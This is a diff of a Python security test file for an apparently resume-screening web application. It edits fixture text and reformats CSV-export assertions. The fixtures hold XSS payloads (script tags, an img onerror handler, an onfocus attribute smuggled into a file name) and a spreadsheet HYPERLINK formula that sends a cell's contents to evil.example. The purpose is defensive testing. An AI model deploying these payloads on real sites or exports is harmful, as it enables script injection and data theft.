@@ -13,9 +13,9 @@ SCRIPT = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 RESUMES = {
     "tags.txt": f"{SCRIPT}\nJava developer since 2015.\n</textarea></div>{SCRIPT}\n- Java, SQL\n",
-    "tags.html": f"<html><body>{SCRIPT}<p>Worked with Java and SQL, 2015 to 2024.</p></body></html>",
+    "tags.html": f"<html><body>{SCRIPT}<p>Java and SQL, 2015 to 2024.</p></body></html>",
     "line.txt": "Java developer. " + "SQL and Java at work. " * 240_000,
-    "quotes'\" onfocus=alert(1) x=.txt": "Java and SQL, 2016 to date, at a small firm in the north.",
+    "quotes'\" onfocus=alert(1) x=.txt": "Java and SQL, 2016 to date, at a small firm up north.",
 }
 LIST = [
     ["candidate_id", "name", "resume_text", "Note"],
@@ -67,9 +67,13 @@ def test_the_long_line_is_either_read_or_named(window, site, hostile):
 
 def test_formulas_stay_words(site, hostile):
     made = site.workspace.export(LOCAL, hostile, ExportKind.CSV, Which.ALL)
-    cells = [cell for row in csv.reader(io.StringIO(made.content.decode("utf-8-sig"))) for cell in row]
+    cells = [
+        cell for row in csv.reader(io.StringIO(made.content.decode("utf-8-sig"))) for cell in row
+    ]
     assert any("HYPERLINK" in cell for cell in cells)
-    assert not [c for c in cells if c[:1] in ("=", "+", "@") and not c[1:].replace(".", "").isdigit()]
+    assert not [
+        c for c in cells if c[:1] in ("=", "+", "@") and not c[1:].replace(".", "").isdigit()
+    ]
 
 
 def test_blind_hides_names_in_pages_titles_and_addresses(window, site, job):
